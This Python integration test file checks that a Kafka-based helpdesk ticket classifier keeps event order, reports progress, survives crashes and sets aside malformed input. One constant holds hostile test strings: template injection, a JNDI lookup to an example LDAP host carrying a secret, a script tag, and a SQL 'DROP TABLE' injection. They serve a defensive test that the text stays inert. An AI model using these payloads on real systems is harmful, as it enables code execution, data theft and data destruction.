"""The classifier as a process on a real Kafka: a verdict for each event in order, progress, crashes, hostile input."""

import asyncio
import json
from datetime import UTC, datetime, timedelta
from io import BytesIO
from pathlib import Path

import fastavro
import msgspec

from ops.local.kafka import LocalKafka
from schemas.catalogue import TICKETS
from schemas.classifications import ClassifierProgressed, TicketClassified
from schemas.codec import SINGLE_OBJECT, fingerprint
from schemas.message import ActorKind
from schemas.tickets import CustomerReplied, TicketOpened
from schemas.vocabulary import FactKind, ReplyIntent
from tests.harness.tickets import a_comment, a_meta, a_ticket
from tests.harness.waiting import eventually
from tests.integration.classifier.helpdesk import POLICY, Helpdesk, a_classifier

SOON = timedelta(seconds=10)
SECRET = "correct-horse-battery"  # stands for what a customer wrote
HOSTILE = "\n".join(
    [
        f"{{{{ config.items() }}}} {{% for x in range(10**9) %}} ${{jndi:ldap://x.example/{SECRET}}}",
        "<script>alert(1)</script>'; DROP TABLE tickets; -- \x00\x1b[2J",
        *(f"08:00:00,{line} ERROR down {SECRET}" for line in range(10_000)),
    ]
)


async def test_each_event_becomes_one_verdict_in_order_and_only_tickets_from_now_on_are_judged(
    own_kafka: LocalKafka, tmp_path: Path, free_port: int
) -> None:
    async with Helpdesk(own_kafka.bootstrap_servers) as desk:
        await desk.publish_policy(POLICY.policy, POLICY.version)
        await desk.update(a_ticket(99), range(3))
        with a_classifier(own_kafka.bootstrap_servers, tmp_path / "log", free_port) as service:
            await eventually(service.is_ready, 40, what=lambda: service.log)
            tickets = [a_ticket(number, "Everything is down, nobody can log in.") for number in range(4)]
            for ticket in tickets:
                await desk.tell(TicketOpened(meta=a_meta(f"{ticket.key}-open", ticket), ticket=ticket))
                await desk.update(ticket, range(5))
                reply = a_comment("Thanks, it works again.")
                await desk.tell(
                    CustomerReplied(meta=a_meta(f"{ticket.key}-reply", ticket), ticket=ticket, comment=reply)
                )

            await eventually(
                lambda: len(desk.classified()) >= 28, what=lambda: f"{len(desk.classified())} {service.log}"
            )
            for ticket in tickets:
                told = desk.classified(ticket.key)
                causes = [
                    f"{ticket.key}-open",
                    *(f"{ticket.key}-{number}" for number in range(5)),
                    f"{ticket.key}-reply",
                ]
                assert [one.meta.causation_id for one in told] == causes
                assert told[0].judgement.qualifies
                assert (told[-1].fact.kind, told[-1].fact.intent) == (FactKind.CUSTOMER_REPLIED, ReplyIntent.CONFIRMS)
            assert desk.classified("zendesk-eu/99") == []
            assert 'qualifies="true"' in service.metrics()
            assert service.terminate(SOON) == 0


async def test_progress_is_told_of_every_partition_and_is_true_under_steady_load(
    own_kafka: LocalKafka, tmp_path: Path, free_port: int
) -> None:
    async with Helpdesk(own_kafka.bootstrap_servers) as desk:
        await desk.publish_policy(POLICY.policy, POLICY.version)
        with a_classifier(own_kafka.bootstrap_servers, tmp_path / "log", free_port) as service:
            await eventually(service.is_ready, 40, what=lambda: service.log)
            await eventually(lambda: all(desk.progress(number) for number in range(4)), what=lambda: service.log)
            sent = 0
            until = datetime.now(UTC) + timedelta(seconds=4)
            while datetime.now(UTC) < until:
                await desk.update(a_ticket(sent % 7, "The export fails."), range(sent, sent + 5))
                sent += 5
                await eventually(lambda: sent - len(desk.classified()) < 100, what=lambda: service.log)  # noqa: B023
            await eventually(lambda: len(desk.classified()) >= sent, what=lambda: service.log)

            _assert_progress_is_true(desk)
            told = [one for number in range(4) for one in desk.progress(number)]
            under_load = [one for one in told if until - timedelta(seconds=3) < one.reached_at < until]
            assert len(under_load) >= 4 * 3, "once a second of each partition at least, on a busy machine too"


def _assert_progress_is_true(desk: Helpdesk) -> None:
    """Nothing that the broker had by a time that was told as reached may come after it."""
    reached: dict[int, datetime] = {}
    for heard in desk.records:
        if isinstance(heard.message, ClassifierProgressed):
            assert heard.message.partition == heard.partition
            reached[heard.partition] = heard.message.reached_at
        elif isinstance(heard.message, TicketClassified) and heard.partition in reached:
            acknowledged_at = desk.acknowledged_at[heard.message.meta.causation_id or ""]
            assert acknowledged_at > reached[heard.partition]


async def test_killed_and_started_again_it_says_the_same_by_id_and_loses_nothing(
    own_kafka: LocalKafka, tmp_path: Path, free_port: int
) -> None:
    async with Helpdesk(own_kafka.bootstrap_servers) as desk:
        await desk.publish_policy(POLICY.policy, POLICY.version)
        await desk.update(a_ticket(1), range(100))
        an_hour_ago = datetime.now(UTC) - timedelta(hours=1)
        with a_classifier(own_kafka.bootstrap_servers, tmp_path / "log", free_port, an_hour_ago) as service:
            await eventually(service.is_ready, 40, what=lambda: service.log)
            feeding = asyncio.create_task(_feed(desk))
            await eventually(lambda: len(desk.classified()) > 300, what=lambda: service.log)
            service.kill()
        await feeding
        with a_classifier(own_kafka.bootstrap_servers, tmp_path / "log", free_port) as service:
            wanted = {f"zendesk-eu/1-{number}" for number in range(100)} | {f"zendesk-eu/2-{n}" for n in range(1_000)}

            await eventually(
                lambda: {one.meta.causation_id for one in desk.classified()} == wanted,
                40,
                what=lambda: f"{len(desk.classified())} {service.log}",
            )
            ids: dict[str | None, set[str]] = {}
            for one in desk.classified():
                ids.setdefault(one.meta.causation_id, set()).add(one.meta.id)
            assert all(len(found) == 1 for found in ids.values())
            firsts = list(dict.fromkeys(one.meta.causation_id for one in desk.classified("zendesk-eu/2")))
            assert firsts == [f"zendesk-eu/2-{number}" for number in range(1_000)]


async def _feed(desk: Helpdesk) -> None:
    for start in range(0, 1_000, 20):
        await desk.update(a_ticket(2), range(start, start + 20))


async def test_garbage_is_put_aside_hostile_text_is_inert_and_nothing_of_it_is_logged(
    own_kafka: LocalKafka, tmp_path: Path, free_port: int
) -> None:
    key = b"zendesk-eu/1"
    hostile = msgspec.structs.replace(
        a_ticket(1, HOSTILE), subject=f"{SECRET} {{{{7*7}}}}", comments=(a_comment(HOSTILE),)
    )
    nameless = msgspec.structs.replace(a_ticket(1), ticket_id="")
    async with Helpdesk(own_kafka.bootstrap_servers) as desk:
        await desk.publish_policy(POLICY.policy, POLICY.version)
        with a_classifier(own_kafka.bootstrap_servers, tmp_path / "log", free_port) as service:
            await eventually(service.is_ready, 40, what=lambda: service.log)
            await desk.tell_bytes(TICKETS, SECRET.encode(), key)
            await desk.tell_bytes(TICKETS, None, key)
            await desk.tell_bytes(TICKETS, SECRET.encode() * 100_000, key)
            await desk.tell_bytes(TICKETS, b"\x00" + SECRET.encode(), key)
            await desk.tell_bytes(
                TICKETS, desk.codec.encode(TicketOpened(meta=a_meta("e-0", nameless), ticket=nameless)), None
            )
            await _publish_unknown_event(desk, key)
            await desk.publish_policy("{}", "broken-1")
            await desk.tell(TicketOpened(meta=a_meta("e-1", hostile, ActorKind.CUSTOMER), ticket=hostile))
            await desk.update(a_ticket(1), [2])

            await eventually(lambda: len(desk.classified()) == 2, 40, what=lambda: f"{desk.heard[-3:]} {service.log}")
            assert [one.meta.causation_id for one in desk.classified()] == ["e-1", "zendesk-eu/1-2"]
            assert not desk.classified()[0].judgement.qualifies
            assert {one.meta.policy_version for one in desk.classified()} == {"test-1"}
            await eventually(lambda: desk.dead_letters(TICKETS), what=lambda: service.log)
            assert await desk.dead_letters(TICKETS) == 5
            assert 'escalon_consumer_skipped_records_total{topic="tickets.v1"} 1.0' in service.metrics()
            assert SECRET not in service.log
            assert SECRET not in service.metrics()


async def _publish_unknown_event(desk: Helpdesk, key: bytes) -> None:
    """Publish an event of a later version, with its schema."""
    schema = {"type": "record", "name": "escalon.tickets.TicketSneezed", "fields": [{"name": "text", "type": "string"}]}
    mark = fingerprint(schema)
    body = BytesIO()
    fastavro.schemaless_writer(body, fastavro.parse_schema(schema), {"text": SECRET})
    await desk.publish_schema(mark, json.dumps(schema))
    await desk.tell_bytes(TICKETS, SINGLE_OBJECT + mark + body.getvalue(), key)
